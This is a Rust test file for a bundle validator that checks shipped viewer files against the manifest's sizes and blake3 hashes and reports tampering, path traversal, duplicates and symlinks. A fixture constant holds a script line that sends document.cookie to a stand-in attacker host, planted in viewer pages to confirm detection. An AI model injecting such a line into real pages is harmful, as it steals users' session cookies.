//! `validate` and the shipped viewer: files at `index.html` and under `viewer/` are exactly the
//! ones `manifest.viewer` lists, with their size and blake3. Each test tampers with a copy of the
//! committed bundle (built with `--no-viewer`) the way an attacker would.
#![cfg(feature = "validate")]

mod common;

use std::path::{Path, PathBuf};

use tlparse_bundle::DirSource;
use tlparse_bundle::validate::validate;

const INDEX: &str = "<!doctype html><title>viewer</title><script type=module src=viewer/app.js></script>\n";
const APP: &str = "document.title = 'bundle';\n";
const TROJAN: &str = "<script>fetch('https://evil.example/?' + document.cookie)</script>\n";

fn problems(bundle: &Path) -> Vec<String> {
    validate(DirSource::new(bundle)).expect("a readable manifest")
}

/// Asserts that one of `found` contains every part of `expected`.
fn assert_reported(found: &[String], expected: &[&str]) {
    assert!(
        found.iter().any(|p| expected.iter().all(|part| p.contains(part))),
        "no problem with {expected:?} in {found:#?}"
    );
}

/// A copy of the committed bundle that ships a small viewer, listed in its manifest as the
/// writer lists one.
fn bundle_with_viewer(dir: &Path) -> PathBuf {
    let bundle = common::copy_bundle(dir);
    std::fs::create_dir_all(bundle.join("viewer")).unwrap();
    let mut entries = Vec::new();
    for (path, text) in [("index.html", INDEX), ("viewer/app.js", APP)] {
        std::fs::write(bundle.join(path), text).unwrap();
        let hash = blake3::hash(text.as_bytes()).to_hex().to_string();
        entries.push(serde_json::json!({"path": path, "size": text.len(), "blake3": hash}));
    }
    common::edit_manifest(&bundle, false, |m| m["viewer"] = entries.into());
    bundle
}

#[test]
fn a_listed_viewer_that_matches_validates() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = bundle_with_viewer(dir.path());
    assert_eq!(problems(&bundle), Vec::<String>::new());
}

#[test]
fn a_trojaned_index_html_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = bundle_with_viewer(dir.path());
    std::fs::write(bundle.join("index.html"), TROJAN).unwrap();
    assert_reported(&problems(&bundle), &["index.html: viewer file changed since the build", "size"]);

    // Same size, other bytes: the hash catches it.
    let same_size: String = INDEX.chars().rev().collect();
    std::fs::write(bundle.join("index.html"), same_size).unwrap();
    assert_reported(&problems(&bundle), &["index.html: viewer file changed since the build", "blake3"]);
}

#[test]
fn an_added_viewer_file_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = bundle_with_viewer(dir.path());
    std::fs::write(bundle.join("viewer/evil.html"), TROJAN).unwrap();
    assert_eq!(
        problems(&bundle),
        ["viewer/evil.html: viewer file is not listed in manifest.json: not listed under `viewer`"]
    );
}

#[test]
fn any_viewer_file_of_a_bundle_without_viewer_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = common::copy_bundle(dir.path());
    std::fs::create_dir_all(bundle.join("viewer/deep")).unwrap();
    std::fs::write(bundle.join("index.html"), TROJAN).unwrap();
    std::fs::write(bundle.join("viewer/deep/x.js"), APP).unwrap();
    let found = problems(&bundle);
    assert_reported(&found, &["index.html: viewer file is not listed", "ships no viewer"]);
    assert_reported(&found, &["viewer/deep/x.js: viewer file is not listed", "ships no viewer"]);
    assert_eq!(found.len(), 2, "{found:#?}");
}

#[test]
fn a_missing_viewer_file_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = bundle_with_viewer(dir.path());
    std::fs::remove_file(bundle.join("viewer/app.js")).unwrap();
    assert_reported(&problems(&bundle), &["viewer file listed in manifest.json", "viewer/app.js: missing"]);
}

#[test]
fn viewer_entries_must_be_viewer_paths_listed_once_and_never_under_files() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = bundle_with_viewer(dir.path());
    // An attacker moves the viewer's entry page into `files` and reseals it there.
    common::edit_manifest(&bundle, true, |m| {
        let viewer = m["viewer"].as_array_mut().unwrap();
        let index = viewer.remove(0);
        viewer.push(serde_json::json!({"path": "../outside.html", "size": 0, "blake3": ""}));
        viewer.push(serde_json::json!({"path": "manifest.json", "size": 0, "blake3": ""}));
        viewer.push(viewer[0].clone());
        let mut entry = index.clone();
        entry["schema"] = serde_json::Value::Null;
        m["files"].as_array_mut().unwrap().push(entry);
    });
    let found = problems(&bundle);
    assert_reported(&found, &["files lists index.html, a viewer path"]);
    assert_reported(&found, &["viewer lists \"../outside.html\", which is not a viewer path"]);
    assert_reported(&found, &["viewer lists \"manifest.json\", which is not a viewer path"]);
    assert_reported(&found, &["viewer lists viewer/app.js twice"]);
    assert_reported(&found, &["index.html: viewer file is not listed"]);
}

#[cfg(unix)]
#[test]
fn a_listed_viewer_file_that_is_a_symlink_is_reported_not_followed() {
    let dir = tempfile::tempdir().unwrap();
    let bundle = bundle_with_viewer(dir.path());
    std::fs::write(dir.path().join("outside.js"), APP).unwrap();
    std::fs::remove_file(bundle.join("viewer/app.js")).unwrap();
    std::os::unix::fs::symlink(dir.path().join("outside.js"), bundle.join("viewer/app.js")).unwrap();
    assert_reported(&problems(&bundle), &["viewer/app.js", "symlink"]);
}
